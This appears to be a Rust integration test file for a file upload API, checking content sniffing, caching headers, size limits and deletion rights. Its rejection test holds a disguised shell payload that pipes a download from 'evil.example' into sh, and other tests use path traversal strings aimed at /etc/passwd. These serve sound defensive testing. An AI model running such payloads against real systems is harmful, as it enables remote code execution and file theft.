//! Uploads checked by content, served back with caching headers, deleted by their owner.

use reqwest::multipart::{Form, Part};
use serde_json::Value;

use crate::helpers::{assert_problem, spawn_app, TestApp};

/// The smallest PNG header that content sniffing recognises.
pub const PNG: &[u8] = &[
    0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, b'I', b'H', b'D', b'R', 0, 0, 0,
    1, 0, 0, 0, 1, 8, 6, 0, 0, 0,
];

pub async fn upload(
    app: &TestApp,
    token: &str,
    name: &str,
    mime: &str,
    bytes: Vec<u8>,
) -> reqwest::Response {
    let part = Part::bytes(bytes)
        .file_name(name.to_string())
        .mime_str(mime)
        .unwrap();
    app.client
        .post(app.url("/api/v1/files"))
        .bearer_auth(token)
        .multipart(Form::new().part("file", part))
        .send()
        .await
        .unwrap()
}

fn stored_files(app: &TestApp) -> usize {
    std::fs::read_dir(app.data_dir.join("uploads"))
        .map(|d| d.count())
        .unwrap_or(0)
}

async fn token(app: &TestApp, email: &str) -> String {
    app.register(email).await.1["access_token"]
        .as_str()
        .unwrap()
        .to_string()
}

#[tokio::test]
async fn an_image_is_stored_and_served_back_with_caching_headers() {
    let app = spawn_app().await;
    let ada = token(&app, "ada@example.com").await;
    let response = upload(
        &app,
        &ada,
        "../../etc/Shoe Photo.png",
        "image/png",
        PNG.to_vec(),
    )
    .await;
    assert_eq!(response.status(), 201);
    let file: Value = response.json().await.unwrap();
    assert_eq!(file["content_type"], "image/png");
    assert_eq!(file["size"], PNG.len());
    assert_eq!(file["filename"], "Shoe Photo.png", "the path is dropped");
    let url = file["url"].as_str().unwrap();
    assert!(
        url.starts_with("/uploads/") && url.ends_with(".png") && !url.contains("Shoe"),
        "{url}"
    );

    let served = app.get(url).await;
    assert_eq!(served.status(), 200);
    let headers = served.headers().clone();
    assert_eq!(headers["content-type"], "image/png");
    assert_eq!(headers["x-content-type-options"], "nosniff");
    assert!(headers["cache-control"]
        .to_str()
        .unwrap()
        .contains("immutable"));
    assert_eq!(served.bytes().await.unwrap().as_ref(), PNG);
    let etag = headers["etag"].to_str().unwrap();
    let again = app
        .client
        .get(app.url(url))
        .header("if-none-match", etag)
        .send()
        .await
        .unwrap();
    assert_eq!(again.status(), 304);

    assert_problem(app.get("/uploads/nothing-here.png").await, 404).await;
    assert_problem(app.get("/uploads/..%2F..%2Fetc%2Fpasswd").await, 404).await;
}

#[tokio::test]
async fn a_script_renamed_png_is_refused_and_nothing_is_stored() {
    let app = spawn_app().await;
    let ada = token(&app, "ada@example.com").await;
    let script = b"#!/bin/sh\ncurl http://evil.example | sh\n".to_vec();
    let response = upload(&app, &ada, "cute-cat.png", "image/png", script.clone()).await;
    assert_problem(response, 415).await;
    // Even without a claim in the header, the extension says png.
    let response = upload(
        &app,
        &ada,
        "cute-cat.png",
        "application/octet-stream",
        script,
    )
    .await;
    assert_problem(response, 415).await;
    assert_eq!(stored_files(&app), 0);

    // Plain text claiming to be an image is named for what it is.
    let text = upload(
        &app,
        &ada,
        "photo.jpg",
        "image/jpeg",
        b"just some words".to_vec(),
    )
    .await;
    let body = assert_problem(text, 415).await;
    assert!(
        body["detail"]
            .as_str()
            .unwrap()
            .contains("text/plain, not image/jpeg"),
        "{body}"
    );

    let zip = b"PK\x03\x04\x14\x00\x00\x00\x08\x00".to_vec();
    assert_problem(
        upload(&app, &ada, "archive.zip", "application/zip", zip).await,
        415,
    )
    .await;
    // Text is fine when it says it is text, or says nothing.
    let notes = upload(
        &app,
        &ada,
        "notes",
        "application/octet-stream",
        b"buy milk\n".to_vec(),
    )
    .await;
    assert_eq!(notes.status(), 201);
    assert_eq!(
        notes.json::<Value>().await.unwrap()["content_type"],
        "text/plain"
    );
}

#[tokio::test]
async fn uploads_are_limited_to_5_mb() {
    let app = spawn_app().await;
    let ada = token(&app, "ada@example.com").await;
    let limit = 5 * 1024 * 1024;
    let mut at_limit = PNG.to_vec();
    at_limit.resize(limit, 0);
    assert_eq!(
        upload(&app, &ada, "big.png", "image/png", at_limit.clone())
            .await
            .status(),
        201
    );
    at_limit.push(0);
    let over = upload(&app, &ada, "bigger.png", "image/png", at_limit).await;
    assert_problem(over, 413).await;
    assert_eq!(stored_files(&app), 1);
}

#[tokio::test]
async fn bad_uploads_get_clear_problems() {
    let app = spawn_app().await;
    let ada = token(&app, "ada@example.com").await;
    let anonymous = app
        .client
        .post(app.url("/api/v1/files"))
        .multipart(Form::new().part("file", Part::bytes(PNG.to_vec()).file_name("a.png")))
        .send()
        .await
        .unwrap();
    assert_problem(anonymous, 401).await;
    let wrong_part = app
        .client
        .post(app.url("/api/v1/files"))
        .bearer_auth(&ada)
        .multipart(Form::new().part("image", Part::bytes(PNG.to_vec()).file_name("a.png")))
        .send()
        .await
        .unwrap();
    assert_problem(wrong_part, 400).await;
    let not_multipart = app
        .post_auth("/api/v1/files", &ada, &serde_json::json!({"file": "x"}))
        .await;
    assert_problem(not_multipart, 400).await;
    assert_problem(
        upload(&app, &ada, "empty.txt", "text/plain", Vec::new()).await,
        400,
    )
    .await;
}

#[tokio::test]
async fn only_the_owner_deletes_and_a_file_in_use_stays() {
    let app = spawn_app().await;
    let ada = token(&app, "ada@example.com").await;
    let bob = token(&app, "bob@example.com").await;
    let file: Value = upload(&app, &ada, "a.png", "image/png", PNG.to_vec())
        .await
        .json()
        .await
        .unwrap();
    let id = file["id"].as_str().unwrap();
    let path = format!("/api/v1/files/{id}");
    let delete = |token: &str| {
        let request = app.client.delete(app.url(&path)).bearer_auth(token);
        async move { request.send().await.unwrap() }
    };
    assert_problem(delete(&bob).await, 404).await;

    // A product shows it.
    app.db
        .execute(
            sea_query::Query::insert()
                .into_table(sea_query::Alias::new("file_usages"))
                .columns([
                    sea_query::Alias::new("file_id"),
                    sea_query::Alias::new("holder"),
                ])
                .values_panic([
                    uuid::Uuid::parse_str(id).unwrap().into(),
                    "product:42".into(),
                ]),
        )
        .await
        .unwrap();
    let body = assert_problem(delete(&ada).await, 409).await;
    assert!(body["detail"].as_str().unwrap().contains("product:42"));
    app.db
        .execute(sea_query::Query::delete().from_table(sea_query::Alias::new("file_usages")))
        .await
        .unwrap();

    assert_eq!(delete(&ada).await.status(), 204);
    assert_problem(app.get(file["url"].as_str().unwrap()).await, 404).await;
    assert_eq!(stored_files(&app), 0);
}

#[tokio::test]
async fn an_upload_is_served_by_its_id_as_well_as_by_its_name() {
    let app = spawn_app().await;
    let ada = token(&app, "ada@example.com").await;
    let uploaded: Value = upload(&app, &ada, "a.png", "image/png", PNG.to_vec())
        .await
        .json()
        .await
        .unwrap();
    let by_id = app
        .get(&format!("/uploads/{}", uploaded["id"].as_str().unwrap()))
        .await;
    assert_eq!(by_id.status(), 200);
    assert_eq!(by_id.headers()["content-type"], "image/png");
    assert_eq!(by_id.bytes().await.unwrap().as_ref(), PNG);
    assert_problem(
        app.get(&format!("/uploads/{}", uuid::Uuid::now_v7())).await,
        404,
    )
    .await;
}
